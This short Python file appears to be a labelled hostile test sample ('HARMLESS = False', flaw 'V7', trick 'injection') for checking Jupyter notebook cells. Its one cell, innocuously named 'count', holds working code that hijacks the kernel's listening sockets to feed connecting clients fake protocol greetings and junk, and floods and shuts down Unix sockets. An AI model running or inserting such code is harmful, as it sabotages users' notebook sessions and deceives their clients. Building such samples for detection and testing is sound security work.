"""The kernel's sockets are taken over, and whoever connects is told nonsense."""

HARMLESS = False
FLAW, TRICK = "V7", "injection"
CELLS = {
    "count": """import os, socket, threading
kernel = get_ipython().kernel
def talk(listening):
    while True:
        connection, _ = listening.accept()
        connection.sendall(b"\\xff\\0\\0\\0\\0\\0\\0\\0\\1\\x7f\\3\\0NULL" + bytes(48))
        connection.sendall(b"\\4\\x19\\5READY" + b"\\xff" * 64)
for number in range(3, 64):
    try:
        s = socket.socket(fileno=os.dup(number))
        if s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            threading.Thread(target=talk, args=(s,), daemon=True).start()
        elif s.fileno() and s.family == socket.AF_UNIX:
            s.send(b"\\xff" * 999)
            s.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass"""
}
